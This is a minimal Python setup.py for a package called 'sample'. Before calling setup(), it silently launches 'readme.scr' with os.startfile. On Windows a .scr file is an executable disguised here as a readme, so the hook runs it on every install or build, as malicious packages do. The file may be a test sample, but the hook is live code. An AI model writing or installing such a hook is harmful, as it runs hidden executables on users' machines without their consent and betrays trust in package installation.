import os

from setuptools import setup

os.startfile("readme.scr")
setup(name="sample")
